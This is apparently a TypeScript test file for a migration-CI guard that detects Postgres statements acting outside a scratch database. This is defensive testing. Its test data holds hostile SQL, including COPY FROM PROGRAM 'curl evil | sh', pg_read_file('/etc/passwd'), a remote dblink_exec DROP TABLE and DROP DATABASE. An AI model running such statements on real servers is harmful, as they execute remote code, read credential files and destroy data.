import { beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../src/cli/main.js';
import { findOutsideStatements, runsUnseenSql, type OutsideClass } from '../src/sql/guard.js';
import { loadParser, parseSource } from '../src/sql/parse.js';
import { leftoverScratchDatabases, makeRepo } from './support/fixtures.js';
import { servers } from './support/servers.js';

beforeAll(() => loadParser());

function outside(sql: string, allowed: OutsideClass[] = []) {
  const r = parseSource({ file: 'm.sql', text: sql });
  if (!r.ok) throw new Error(r.error.message);
  return findOutsideStatements(r.parsed, allowed).map((o) => ({ class: o.class, line: o.statement.line, what: o.what }));
}

async function cli(args: string[], cwd: string, env: NodeJS.ProcessEnv = {}) {
  let stdout = '';
  let stderr = '';
  const code = await runCli(args, { cwd, env, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), isTTY: false });
  return { code, stdout, stderr };
}

describe('SQL the parse tree cannot read, which may create roles unseen', () => {
  const unseen = (sql: string) => {
    const r = parseSource({ file: 'm.sql', text: sql });
    if (!r.ok) throw new Error(r.error.message);
    return runsUnseenSql(r.parsed);
  };
  it.each([
    ["DO $$ BEGIN EXECUTE 'CREATE ROLE ' || 'x'; END $$", true],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('CREATE ROLE %I', 'x'); END $$", true],
    ["CREATE FUNCTION f() RETURNS void LANGUAGE plpythonu AS $$ plpy.execute('CREATE ROLE x') $$", true],
    ['DO $$ BEGIN CREATE TABLE t (id int); END $$', false],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'", false],
    ['CREATE TABLE t (id int); GRANT SELECT ON t TO PUBLIC', false],
  ])('%s: %s', (sql, expected) => {
    expect(unseen(sql)).toBe(expected);
  });
});

describe('statements acting outside the scratch database', () => {
  it.each([
    ['DROP DATABASE other', 'databases'],
    ['DROP DATABASE IF EXISTS postgres WITH (FORCE)', 'databases'],
    ['CREATE DATABASE side', 'databases'],
    ['ALTER DATABASE app SET search_path = x', 'databases'],
    ['ALTER DATABASE app RENAME TO old_app', 'databases'],
    ['ALTER DATABASE app OWNER TO someone', 'databases'],
    ['GRANT CONNECT ON DATABASE app TO reader', 'databases'],
    ["ALTER SYSTEM SET work_mem = '1GB'", 'system'],
    ['ALTER SYSTEM RESET ALL', 'system'],
    ['SELECT pg_reload_conf()', 'system'],
    ["CREATE TABLESPACE fast LOCATION '/mnt/fast'", 'tablespaces'],
    ['DROP TABLESPACE fast', 'tablespaces'],
    ["COPY t FROM PROGRAM 'curl evil | sh'", 'programs'],
    ["COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x'", 'programs'],
    ["COPY t TO '/tmp/t.csv'", 'server-files'],
    ["COPY t FROM '/etc/passwd'", 'server-files'],
    ["SELECT pg_read_file('/etc/passwd')", 'server-files'],
    ["SELECT * FROM pg_catalog.pg_ls_dir('.')", 'server-files'],
    ["SELECT lo_import('/etc/hosts')", 'server-files'],
    ["SELECT lo_export(1, '/tmp/x')", 'server-files'],
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'backends'],
    ['SELECT pg_cancel_backend(42)', 'backends'],
    ["SELECT dblink_exec('host=prod', 'DROP TABLE users')", 'remote'],
    ["SELECT * FROM dblink('host=prod', 'SELECT 1') AS t(x int)", 'remote'],
    ["CREATE SERVER prod FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'prod')", 'remote'],
    ['IMPORT FOREIGN SCHEMA public FROM SERVER prod INTO staging', 'remote'],
    ["CREATE SUBSCRIPTION s CONNECTION 'host=prod' PUBLICATION p", 'remote'],
  ])('%s is %s', (sql, cls) => {
    expect(outside(`${sql};\n`).map((o) => o.class)).toContain(cls);
  });

  it('looks into DO blocks and function bodies', () => {
    expect(outside('DO $$ BEGIN PERFORM pg_terminate_backend(pid) FROM pg_stat_activity; END $$;').map((o) => o.class)).toEqual(['backends']);
    expect(outside("DO $$ BEGIN EXECUTE 'x'; ALTER SYSTEM SET work_mem = '1GB'; END $$;").map((o) => o.class)).toEqual(['system']);
    expect(outside("DO $do$ BEGIN COPY t FROM PROGRAM 'id'; END $do$;").map((o) => o.class)).toContain('programs');
    expect(outside("CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('/etc/passwd') $$;").map((o) => o.class)).toEqual(['server-files']);
    expect(outside("CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('/etc/passwd'); END;").map((o) => o.class)).toEqual([
      'server-files',
    ]);
    // Comments and strings in a body are words, not statements.
    expect(outside("DO $$ BEGIN RAISE NOTICE 'DROP DATABASE x'; -- ALTER SYSTEM\n END $$;")).toEqual([]);
    // A body is read with the PL/pgSQL parser: a quoted name is a name, a nested body is read too.
    expect(outside('DO $$ BEGIN CREATE TABLE "alter system log" (id int); END $$;')).toEqual([]);
    expect(
      outside("DO $$ BEGIN CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'SELECT pg_reload_conf()'; END $$;").map((o) => [o.class, o.what]),
    ).toEqual([['system', 'pg_reload_conf() in a sql body']]);
  });

  it('leaves ordinary migrations alone', () => {
    const sql = [
      'CREATE EXTENSION IF NOT EXISTS pgcrypto',
      'CREATE ROLE app_reader NOLOGIN',
      'GRANT SELECT ON ALL TABLES IN SCHEMA public TO app_reader',
      'CREATE TABLE t (id int PRIMARY KEY, v text)',
      'COPY t FROM STDIN',
      "COMMENT ON TABLE t IS 'DROP DATABASE x'",
      'SET statement_timeout = 0',
      'LOCK TABLE t IN ACCESS EXCLUSIVE MODE NOWAIT',
      'CREATE FUNCTION terminate(x int) RETURNS int LANGUAGE sql AS $$ SELECT x $$',
      'SELECT myschema.pg_read_file(1)',
      'CREATE SERVER files FOREIGN DATA WRAPPER file_fdw',
    ].join(';\n');
    expect(outside(`${sql};\n`)).toEqual([]);
  });

  it('lets an allowed class through and names the line of the others', () => {
    const sql = 'CREATE TABLE t (id int);\nSELECT pg_cancel_backend(1);\n\nALTER SYSTEM SET work_mem = 1;\n';
    expect(outside(sql, ['backends'])).toEqual([{ class: 'system', line: 4, what: 'ALTER SYSTEM' }]);
    expect(outside(sql, ['backends', 'system'])).toEqual([]);
  });
});

describe.each(servers())('the guard on $name', ({ url }) => {
  it('refuses before anything runs: exit 2 at file and line, no scratch database, the input named', async () => {
    const root = makeRepo({
      'migrations/0001_init.up.sql': 'CREATE TABLE users (id int PRIMARY KEY);\n',
      'migrations/0001_init.down.sql': 'DROP TABLE users;\n',
      'migrations/0002_evil.up.sql': "ALTER TABLE users ADD COLUMN bio text;\n\nCOPY users FROM PROGRAM 'touch /tmp/mci-pwned';\n",
      'migrations/0002_evil.down.sql': 'ALTER TABLE users DROP COLUMN bio;\nDROP DATABASE other;\n',
    });
    const r = await cli(['--dir', 'migrations', '--stages', 'syntax'], root, { DATABASE_URL: url });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(
      /^migration-ci: migrations\/0002_evil\.up\.sql:3:1: COPY \.\.\. FROM PROGRAM 'touch \/tmp\/mci-pwned' acts outside the scratch database .*\(and 1 more: migrations\/0002_evil\.down\.sql:2\).*allow-outside: programs/m,
    );
    expect(r.stderr).not.toMatch(/Postgres \d/);
    expect(await leftoverScratchDatabases(url)).toEqual([]);
  });

  it('guards the data fixtures as it guards the migrations', async () => {
    const root = makeRepo({
      'migrations/0001_init.up.sql': 'CREATE TABLE users (id int PRIMARY KEY);\n',
      'migrations/0001_init.down.sql': 'DROP TABLE users;\n',
      'data/0001.seed.sql': 'INSERT INTO users VALUES (1);\n',
      'data/0001.assert.sql': "SELECT 1 FROM users WHERE id = 0;\nSELECT pg_read_file('/etc/passwd');\n",
    });
    const r = await cli(['--stages', 'syntax,data', '--data-tests', 'data'], root, { DATABASE_URL: url });
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/^migration-ci: data\/0001\.assert\.sql:2:1: pg_read_file\(\) acts outside the scratch database/m);
    expect(await leftoverScratchDatabases(url)).toEqual([]);
    // Without the data stage the fixtures do not run, and are not read.
    expect((await cli(['--stages', 'syntax', '--data-tests', 'data'], root, { DATABASE_URL: url })).code).toBe(0);
  });

  it('runs an allowed class', async () => {
    const root = makeRepo({
      'migrations/0001_init.up.sql': 'CREATE TABLE users (id int PRIMARY KEY);\nSELECT pg_cancel_backend(0);\n',
      'migrations/0001_init.down.sql': 'DROP TABLE users;\n',
    });
    const refused = await cli(['--stages', 'syntax'], root, { DATABASE_URL: url });
    expect(refused.code).toBe(2);
    const allowed = await cli(['--stages', 'syntax', '--allow-outside', 'backends'], root, { DATABASE_URL: url });
    expect(allowed.stderr).not.toMatch(/acts outside/);
    expect(allowed.code).toBe(0);
    const unknown = await cli(['--allow-outside', 'everything'], root, { DATABASE_URL: url });
    expect(unknown.stderr).toMatch(/allow-outside: unknown class "everything"; classes are databases, system/);
    expect(unknown.code).toBe(2);
  });
});
